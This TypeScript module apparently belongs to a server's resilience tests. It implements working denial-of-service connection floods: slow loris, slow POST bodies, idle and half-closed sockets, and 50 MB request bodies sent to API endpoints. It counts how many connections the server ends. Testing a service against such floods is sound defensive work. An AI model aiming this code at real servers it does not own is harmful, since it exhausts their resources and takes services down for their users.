import { connect, type Socket } from "node:net";

/** Where the server listens. */
export interface Address {
  host: string;
  port: number;
}

/** Connections that do harm, and how they end. */
export interface Attack {
  name: string;
  /** What is to be seen of it, for the table. */
  words: string;
  /** How many connections were ended by the server, or never taken. */
  ended: () => number;
  stop: () => void;
}

/** Opens many connections; each does what `begin` says once it is open. */
function manyConnections(
  { host, port }: Address,
  count: number,
  begin: (socket: Socket) => void,
): Pick<Attack, "ended" | "stop"> {
  let ended = 0;
  const sockets = Array.from({ length: count }, () => {
    const socket = connect({ host, port, allowHalfOpen: true });
    socket.once("connect", () => {
      begin(socket);
    });
    socket.on("error", () => undefined);
    socket.once("close", () => (ended += 1));
    // What is answered is read, as an end is heard only then.
    socket.resume();
    return socket;
  });
  return {
    ended: () => ended,
    stop: () => {
      for (const socket of sockets) socket.destroy();
    },
  };
}

/** Clients that send their headers a byte at a time, and never all. */
export function slowLoris(address: Address, count: number): Attack {
  const timers = new Set<NodeJS.Timeout>();
  const attack = manyConnections(address, count, (socket) => {
    socket.write("GET /api/stores HTTP/1.1\r\nhost: a\r\nx-slow: ");
    const timer = setInterval(() => socket.write("a"), 1_000);
    timers.add(timer);
    socket.once("close", () => {
      clearInterval(timer);
    });
  });
  return {
    ...attack,
    name: "slow loris",
    words: `${String(count)} clients, a byte of headers a second`,
  };
}

/** The same with the body of a write. */
export function slowBodies(address: Address, count: number): Attack {
  const attack = manyConnections(address, count, (socket) => {
    const headers = "host: a\r\ncontent-type: application/json\r\ncontent-length: 60000\r\n\r\n";
    socket.write(`POST /api/feedback HTTP/1.1\r\n${headers}{`);
    const timer = setInterval(() => socket.write(" "), 1_000);
    socket.once("close", () => {
      clearInterval(timer);
    });
  });
  return { ...attack, name: "slow bodies", words: `${String(count)} clients, a byte a second` };
}

/** Connections on which nothing is said. */
export function idle(address: Address, count: number): Attack {
  const attack = manyConnections(address, count, () => undefined);
  return { ...attack, name: "idle connections", words: `${String(count)} connections` };
}

/** Clients that ask, end their half, and read no answer. */
export function halfClosed(address: Address, count: number): Attack {
  const attack = manyConnections(address, count, (socket) => {
    socket.pause();
    socket.end("GET /api/menus HTTP/1.1\r\nhost: a\r\n\r\n");
  });
  return { ...attack, name: "half-closed sockets", words: `${String(count)} that read nothing` };
}

const MEGABYTE = 1_024 * 1_024;
const PIECE = Buffer.alloc(MEGABYTE, " ");

/** Bodies of 50 MB to a call that takes 64 kB; some say so before, some do not. */
export function hugeBodies(address: Address, count: number): Attack {
  let turn = 0;
  const attack = manyConnections(address, count, (socket) => {
    turn += 1;
    const length =
      turn % 2 === 0 ? `content-length: ${String(50 * MEGABYTE)}` : "transfer-encoding: chunked";
    const isChunked = turn % 2 === 1;
    socket.write(
      `POST /api/feedback HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\n${length}\r\n\r\n`,
    );
    let left = 50;
    const more = () => {
      while (left > 0 && !socket.destroyed) {
        left -= 1;
        if (isChunked) socket.write(`${MEGABYTE.toString(16)}\r\n`);
        const hasRoom = socket.write(PIECE);
        if (isChunked) socket.write("\r\n");
        if (!hasRoom) return;
      }
    };
    socket.on("drain", more);
    more();
  });
  return { ...attack, name: "bodies of 50 MB", words: `${String(count)} clients` };
}
